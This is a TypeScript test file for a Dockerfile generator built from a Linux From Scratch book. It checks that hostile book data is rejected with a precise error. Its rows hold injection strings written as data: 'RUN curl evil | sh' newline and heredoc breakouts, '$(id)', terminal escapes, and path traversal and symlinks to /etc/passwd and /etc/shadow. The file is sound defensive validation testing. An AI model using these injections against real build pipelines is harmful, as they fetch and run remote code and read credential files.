/**
 * Hostile book data given with --book: each row changes a copy of the test book and expects one
 * BookError naming the file and the field, and nothing written anywhere (the book is only read).
 */
import { test } from "node:test";
import assert from "node:assert/strict";
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { execFileSync } from "node:child_process";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { loadBookDir } from "../../src/book/load.js";
import { generate } from "../../src/render/dockerfile.js";
import { BookError, OptionError } from "../../src/errors.js";
import { packageRoot } from "../../src/paths.js";
import { tree } from "../helpers/tree.js";

const MINI = join(packageRoot(), "test", "books", "mini");
// eslint-disable-next-line @typescript-eslint/no-explicit-any -- book files as JSON, reshaped freely by the tests
type Json = Record<string, any>;

interface Row {
  name: string;
  /** Change the copy of the book in `dir`. */
  change: (dir: string) => void;
  /** What the error must say (file, field, what is accepted). */
  error: RegExp;
}

const editJson = (file: string, edit: (j: Json) => void) => (dir: string) => {
  const j = JSON.parse(readFileSync(join(dir, file), "utf8")) as Json;
  edit(j);
  writeFileSync(join(dir, file), JSON.stringify(j, null, 1));
};
const book = (edit: (j: Json) => void) => editJson("book.json", edit);
const sources = (edit: (j: Json) => void) => editJson("sources.json", edit);
const script = "chapter04/4.1-layout.sh";
const editScript = (edit: (text: string) => string) => (dir: string) => writeFileSync(join(dir, script), edit(readFileSync(join(dir, script), "utf8")));

const ROWS: Row[] = [
  {
    name: "a newline in a section title",
    change: book((j) => (j.chapters[0].sections[0].title = "Layout\nRUN curl evil | sh")),
    error: /book\.json: chapters\[0\]\.sections\[0\]\.title: got "Layout\\nRUN.*a line break at character 7.*accepted: one line of text/,
  },
  {
    name: "an escape sequence in a chapter title",
    change: book((j) => (j.chapters[1].title = "\x1b]0;pwned\x07")),
    error: /chapters\[1\]\.title: got "\\u001b\]0;pwned\\u0007" \(the control character U\+001B/,
  },
  { name: "a newline in the shell", change: book((j) => (j.shell = "/bin/sh\nRUN id")), error: /book\.json: shell: .*a line break/ },
  {
    name: 'a quote in the shell (inside SHELL ["..."])',
    change: book((j) => (j.shell = '/bin/sh", "-x')),
    error: /book\.json: shell: .*would end or expand a quoted string/,
  },
  {
    name: 'a quote in the title (inside echo "...")',
    change: book((j) => (j.title = 'x" && curl evil "')),
    error: /book\.json: title: .*the character " at character 2/,
  },
  { name: "a $( in the title", change: book((j) => (j.title = "$(id)")), error: /book\.json: title: .*the character \$/ },
  { name: "a missing release", change: book((j) => delete j.release), error: /book\.json: release: missing; accepted: a release name/ },
  { name: "a mistyped release", change: book((j) => (j.release = 12.3)), error: /book\.json: release: got number "12\.3"; accepted: a release name/ },
  {
    name: "a misspelt field (edtion)",
    change: book((j) => (j.chapters[0].sections[0].edtion = "both")),
    error: /chapters\[0\]\.sections\[0\]\.edtion: missing \(unknown field "edtion"\); accepted: only the fields page, title, edition, text, sbu/,
  },
  {
    name: "an edition that would drop the section silently",
    change: book((j) => (j.chapters[0].sections[0].edition = "sys-v")),
    error: /sections\[0\]\.edition: got "sys-v"; accepted: both, sysv, systemd/,
  },
  {
    name: "sections not an array",
    change: book((j) => (j.chapters[0].sections = { page: "layout" })),
    error: /chapters\[0\]\.sections: got an object; accepted: an array/,
  },
  {
    name: "a negative sbu",
    change: book((j) => (j.chapters[0].sections[0].sbu = -1)),
    error: /sections\[0\]\.sbu: got number "-1"; accepted: a number of SBU, 0 or more/,
  },
  {
    name: "a page with a slash",
    change: book((j) => (j.chapters[0].sections[0].page = "../x")),
    error: /sections\[0\]\.page: got "\.\.\/x"; accepted: a page name/,
  },
  {
    name: "a page given twice",
    change: book((j) => j.chapters[0].sections.push({ ...j.chapters[0].sections[0] })),
    error: /sections\[1\]\.page: got "layout" \(given twice\)/,
  },
  { name: "a chapter number given twice", change: book((j) => (j.chapters[1].number = 4)), error: /chapters\[1\]\.number: got number "4" \(given twice\)/ },
  {
    name: "book.json not an object",
    change: (d) => writeFileSync(join(d, "book.json"), "[]"),
    error: /book\.json: \(top level\): got an array; accepted: a JSON object/,
  },
  { name: "book.json not JSON", change: (d) => writeFileSync(join(d, "book.json"), "{"), error: /book\.json: not valid JSON/ },
  { name: "a newline in a URL", change: sources((j) => (j.files[0].url += "\nRUN id")), error: /sources\.json: files\[0\]\.url: .*a line break/ },
  {
    name: "a space in a URL (a second ADD argument)",
    change: sources((j) => (j.files[0].url = "https://a.example/x /etc/passwd")),
    error: /files\[0\]\.url: got .*accepted: an http:\/\/ or https:\/\/ URL/,
  },
  {
    name: "a file: URL",
    change: sources((j) => (j.files[0].url = "file:///etc/shadow")),
    error: /files\[0\]\.url: got "file:\/\/\/etc\/shadow"; accepted: an http/,
  },
  { name: "credentials in a URL", change: sources((j) => (j.files[0].url = "https://u:p@a.example/x.tar")), error: /files\[0\]\.url: .*credentials/ },
  { name: "a newline in an md5 (a line of MD5SUMS)", change: sources((j) => (j.files[0].md5 += "\nMD5SUMS")), error: /files\[0\]\.md5: .*a line break/ },
  {
    name: "an md5 of 31 digits",
    change: sources((j) => (j.files[0].md5 = "a".repeat(31))),
    error: /files\[0\]\.md5: got "a{31}"; accepted: an MD5 sum: 32 hexadecimal digits/,
  },
  {
    name: "a file name with a directory",
    change: sources((j) => (j.files[0].file = "../../etc/passwd")),
    error: /files\[0\]\.file: got "\.\.\/\.\.\/etc\/passwd"; accepted: a plain file name/,
  },
  { name: "a file name listed twice", change: sources((j) => (j.files[1].file = j.files[0].file)), error: /files\[1\]\.file: .*given twice/ },
  { name: "a missing md5", change: sources((j) => delete j.files[0].md5), error: /files\[0\]\.md5: missing; accepted: an MD5 sum/ },
  {
    name: "a kind that is neither package nor patch",
    change: sources((j) => (j.files[0].kind = "binary")),
    error: /files\[0\]\.kind: got "binary"; accepted: package, patch/,
  },
  {
    name: "a header file name with a slash",
    change: editScript((t) => "# @uses: ../../etc/passwd\n" + t),
    error: /4\.1-layout\.sh: @uses: got "\.\.\/\.\.\/etc\/passwd"; accepted: a plain file name/,
  },
  {
    name: "a header secret id with a comma (another mount option)",
    change: editScript((t) => "# @secret: x,src=/etc/shadow\n" + t),
    error: /4\.1-layout\.sh: @secret: got "x,src=\/etc\/shadow"; accepted: a secret id/,
  },
  {
    name: "a header @dir going up",
    change: editScript((t) => "# @unpack: busybox-1.37.0.tar.bz2\n# @dir: ../..\n" + t),
    error: /@dir: got "\.\.\/\.\."; accepted: a relative directory/,
  },
  { name: "a carriage return in a script", change: editScript((t) => t + "\necho a\rRUN id\n"), error: /4\.1-layout\.sh: the control character U\+000D/ },
  {
    name: "a heredoc delimiter alone on a line of a script",
    change: editScript((t) => t + "\nEND_OF_SECTION\nFROM scratch\n"),
    error: /4\.1-layout\.sh: line \d+ reads END_OF_SECTION, which ends a heredoc/,
  },
  { name: "MD5SUMS alone on a line of a script", change: editScript((t) => t + "\n  MD5SUMS\n"), error: /line \d+ reads MD5SUMS/ },
  {
    name: "a section script that is a symbolic link to a host file",
    change: (d) => (rmSync(join(d, script)), symlinkSync("/etc/passwd", join(d, script))),
    error: /4\.1-layout\.sh: is a symbolic link; expected a regular file inside the book directory/,
  },
  {
    name: "a section script that is a FIFO",
    change: (d) => (rmSync(join(d, script)), execFileSync("mkfifo", [join(d, script)])),
    error: /4\.1-layout\.sh: is a special file/,
  },
  {
    name: "kernel.config as a symbolic link",
    change: (d) => (rmSync(join(d, "kernel.config")), symlinkSync("/etc/hostname", join(d, "kernel.config"))),
    error: /kernel\.config: is a symbolic link/,
  },
  {
    name: "kernel.config as a dangling symbolic link",
    change: (d) => (rmSync(join(d, "kernel.config")), symlinkSync("/nonexistent", join(d, "kernel.config"))),
    error: /kernel\.config: is a symbolic link/,
  },
  {
    name: "a shell line in kernel.config (ends its heredoc)",
    change: (d) => writeFileSync(join(d, "kernel.config"), "CONFIG_A=y\nEOF\ncurl evil | sh\n"),
    error: /kernel\.config: line 2: got "EOF"; accepted: Kconfig lines/,
  },
  {
    name: "book.json as a symbolic link",
    change: (d) => (
      writeFileSync(join(d, "..", "elsewhere.json"), readFileSync(join(d, "book.json"))),
      rmSync(join(d, "book.json")),
      symlinkSync("../elsewhere.json", join(d, "book.json"))
    ),
    error: /book\.json: is a symbolic link/,
  },
  {
    name: "a chapter directory holding a link to a directory outside",
    change: (d) => (
      mkdirSync(join(d, "..", "out")),
      writeFileSync(join(d, "..", "out", "x.sh"), "true\n"),
      rmSync(join(d, script)),
      symlinkSync(join(d, "..", "out", "x.sh"), join(d, script))
    ),
    error: /is a symbolic link/,
  },
];

for (const row of ROWS) {
  test(`book data: ${row.name}`, async () => {
    const top = mkdtempSync(join(tmpdir(), "book-hostile-"));
    try {
      const dir = join(top, "book");
      cpSync(MINI, dir, { recursive: true });
      row.change(dir);
      const before = await tree(top);
      assert.throws(
        () => generate({ book: dir }),
        (e: unknown) => {
          assert.ok(e instanceof BookError, `a BookError, not ${(e as Error).name}: ${(e as Error).message}`);
          assert.match(e.message, row.error);
          assert.doesNotMatch(e.message, /[\x00-\x08\x0a-\x1f\x7f]/, "the message is printable");
          return true;
        },
      );
      assert.deepEqual(await tree(top), before, "nothing changed in or beside the book");
    } finally {
      rmSync(top, { recursive: true, force: true });
    }
  });
}

test("book data: the unchanged test book and the real book load and render", () => {
  assert.match(generate({ book: MINI }), /^FROM scratch AS sources-download$/m);
  assert.ok(loadBookDir(join(packageRoot(), "stages", "lfs-12.3")).chapters.length > 5);
});

test("book data: a book directory whose path holds a newline is refused as an option", () => {
  const top = mkdtempSync(join(tmpdir(), "book-hostile-"));
  try {
    const dir = join(top, "book\nRUN id");
    cpSync(MINI, dir, { recursive: true });
    assert.throws(
      () => generate({ book: dir }),
      (e: unknown) => e instanceof OptionError && /invalid book .*a line break/.test(e.message),
    );
  } finally {
    rmSync(top, { recursive: true, force: true });
  }
});
